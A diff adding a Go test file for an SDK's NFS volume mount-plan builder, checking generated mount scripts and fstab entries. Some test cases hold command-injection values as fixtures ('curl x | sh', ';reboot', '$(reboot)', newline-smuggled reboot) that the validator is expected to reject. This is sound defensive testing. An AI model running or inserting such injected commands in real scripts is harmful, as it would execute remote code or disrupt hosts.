@@ -0,0 +1,223 @@
+package volumes
+
+import (
+	"strings"
+	"testing"
+
+	"github.com/datacrunch-io/datacrunch-sdk-go/pkg/dcerr"
+	"github.com/datacrunch-io/datacrunch-sdk-go/pkg/request"
+	"github.com/datacrunch-io/datacrunch-sdk-go/service/volumetypes"
+)
+
+var testVolumeTypes = []*volumetypes.VolumeTypeResponse{
+	{Type: "NVMe", IsSharedFS: false},
+	{Type: "NVMe_Shared", IsSharedFS: true},
+}
+
+func sharedVolume() *VolumeResponse {
+	return &VolumeResponse{
+		ID:                       "vol-1",
+		Name:                     "datasets\nshared",
+		Type:                     VolumeTypeNVMeShared,
+		CreateDirectoryCommand:   "mkdir -p /mnt/SFS-datasets",
+		MountCommand:             "mount -t nfs -o nconnect=16 nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets",
+		FilesystemToFstabCommand: `grep -qxF 'nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets nfs defaults,nconnect=16 0 0' /etc/fstab || echo 'nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets nfs defaults,nconnect=16 0 0' | sudo tee -a /etc/fstab`,
+	}
+}
+
+func TestNewMountPlan_SharedFilesystem(t *testing.T) {
+	plan, err := NewMountPlan(sharedVolume(), testVolumeTypes)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+
+	expectedFstab := FstabEntry{
+		Device:    "nfs.fin-01.datacrunch.io:/SFS-datasets",
+		Directory: "/mnt/SFS-datasets",
+		Type:      "nfs",
+		Options:   "defaults,nconnect=16",
+	}
+	if plan.Directory != "/mnt/SFS-datasets" || plan.Fstab != expectedFstab {
+		t.Errorf("unexpected plan %+v", plan)
+	}
+
+	expected := `#!/bin/bash
+set -e
+
+# Mount shared filesystem volume datasets shared (vol-1)
+mkdir -p /mnt/SFS-datasets
+grep -qxF 'nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets nfs defaults,nconnect=16 0 0' /etc/fstab || echo 'nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets nfs defaults,nconnect=16 0 0' >> /etc/fstab
+mountpoint -q /mnt/SFS-datasets || mount -t nfs -o nconnect=16 nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets
+`
+	if got := MountScript(plan, nil); got != expected {
+		t.Errorf("unexpected script:\n%s\nexpected:\n%s", got, expected)
+	}
+
+	input := NewMountStartScriptInput("mount-datasets", plan)
+	if input.Name != "mount-datasets" || input.Script != expected {
+		t.Errorf("unexpected start script input %+v", input)
+	}
+}
+
+func TestNewMountPlan_FstabFromMountCommand(t *testing.T) {
+	v := sharedVolume()
+	v.FilesystemToFstabCommand = ""
+
+	plan, err := NewMountPlan(v, testVolumeTypes)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	expected := "nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets nfs nconnect=16 0 0"
+	if got := plan.Fstab.String(); got != expected {
+		t.Errorf("expected fstab line %q, got %q", expected, got)
+	}
+	if !strings.Contains(plan.Script(), "echo '"+expected+"' >> /etc/fstab") {
+		t.Errorf("expected the script to add the fstab line, got:\n%s", plan.Script())
+	}
+}
+
+func TestNewMountPlan_GeneratedCommands(t *testing.T) {
+	v := sharedVolume()
+	v.CreateDirectoryCommand = "sudo mkdir -p -m 755 /mnt/SFS-datasets"
+	v.MountCommand = "sudo mount nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets"
+
+	plan, err := NewMountPlan(v, testVolumeTypes)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if expected := "mkdir -p /mnt/SFS-datasets"; plan.CreateDirectoryCommand != expected {
+		t.Errorf("expected create directory command %q, got %q", expected, plan.CreateDirectoryCommand)
+	}
+	if expected := "mount -t auto -o defaults nfs.fin-01.datacrunch.io:/SFS-datasets /mnt/SFS-datasets"; plan.MountCommand != expected {
+		t.Errorf("expected mount command %q, got %q", expected, plan.MountCommand)
+	}
+}
+
+func TestNewMountPlan_Invalid(t *testing.T) {
+	tests := []struct {
+		name     string
+		volume   func() *VolumeResponse
+		types    []*volumetypes.VolumeTypeResponse
+		expected []string
+	}{
+		{
+			name: "not a shared filesystem",
+			volume: func() *VolumeResponse {
+				return &VolumeResponse{ID: "vol-2", Type: VolumeTypeNVMe}
+			},
+			types: testVolumeTypes,
+			expected: []string{
+				`volume vol-2 of type "NVMe" is not a shared filesystem`,
+				"volume vol-2 has no mount command",
+				"volume vol-2 has no create directory command",
+				`volume vol-2 has an invalid mount directory ""`,
+			},
+		},
+		{
+			name:   "unknown volume types",
+			volume: sharedVolume,
+			expected: []string{
+				`volume vol-1 of type "NVMe_Shared" is not a shared filesystem`,
+			},
+		},
+		{
+			name: "missing mount command",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.MountCommand = ""
+				return v
+			},
+			types:    testVolumeTypes,
+			expected: []string{"volume vol-1 has no mount command"},
+		},
+		{
+			name: "unparsable fstab",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.FilesystemToFstabCommand = "setup-fstab"
+				v.MountCommand = "mount_nfs /mnt/SFS-datasets"
+				return v
+			},
+			types: testVolumeTypes,
+			expected: []string{
+				`volume vol-1 has an unusable mount command "mount_nfs /mnt/SFS-datasets"`,
+				"volume vol-1 has no usable fstab entry",
+			},
+		},
+		{
+			name: "injected create directory command",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.CreateDirectoryCommand = "curl x | sh; mkdir -p /mnt/SFS-datasets"
+				return v
+			},
+			types:    testVolumeTypes,
+			expected: []string{`volume vol-1 has an unsafe command "curl x | sh; mkdir -p /mnt/SFS-datasets"`},
+		},
+		{
+			name: "injected mount command",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.MountCommand = "mount -t nfs nfs:/share /mnt/SFS-datasets;reboot"
+				return v
+			},
+			types: testVolumeTypes,
+			expected: []string{
+				`volume vol-1 has an unsafe command "mount -t nfs nfs:/share /mnt/SFS-datasets;reboot"`,
+				`volume vol-1 has an unusable mount command "mount -t nfs nfs:/share /mnt/SFS-datasets;reboot"`,
+			},
+		},
+		{
+			name: "substituted mount option",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.MountCommand = "mount -t nfs -o $(reboot) nfs:/share /mnt/SFS-datasets"
+				return v
+			},
+			types: testVolumeTypes,
+			expected: []string{
+				`volume vol-1 has an unsafe command "mount -t nfs -o $(reboot) nfs:/share /mnt/SFS-datasets"`,
+				`volume vol-1 has an unusable mount command "mount -t nfs -o $(reboot) nfs:/share /mnt/SFS-datasets"`,
+			},
+		},
+		{
+			name: "multi-line create directory command",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.CreateDirectoryCommand = "mkdir -p /mnt/SFS-datasets\nreboot /mnt/SFS-datasets"
+				return v
+			},
+			types:    testVolumeTypes,
+			expected: []string{`volume vol-1 has an unsafe command "mkdir -p /mnt/SFS-datasets\nreboot /mnt/SFS-datasets"`},
+		},
+		{
+			name: "unsafe fstab",
+			volume: func() *VolumeResponse {
+				v := sharedVolume()
+				v.FilesystemToFstabCommand = `echo "nfs:/share;reboot /mnt/SFS-datasets nfs defaults 0 0" >> /etc/fstab`
+				return v
+			},
+			types:    testVolumeTypes,
+			expected: []string{"volume vol-1 has no usable fstab entry"},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			_, err := NewMountPlan(tt.volume(), tt.types)
+			batch, ok := err.(dcerr.BatchedErrors)
+			if !ok || batch.Code() != request.ErrCodeInvalidParameter {
+				t.Fatalf("expected a batched %s error, got %v", request.ErrCodeInvalidParameter, err)
+			}
+			errs := batch.OrigErrs()
+			if len(errs) != len(tt.expected) {
+				t.Fatalf("expected %d errors, got %v", len(tt.expected), errs)
+			}
+			for i, expected := range tt.expected {
+				if msg := errs[i].(dcerr.Error).Message(); msg != expected {
+					t.Errorf("error %d: expected %q, got %q", i, expected, msg)
+				}
+			}
+		})
+	}
+}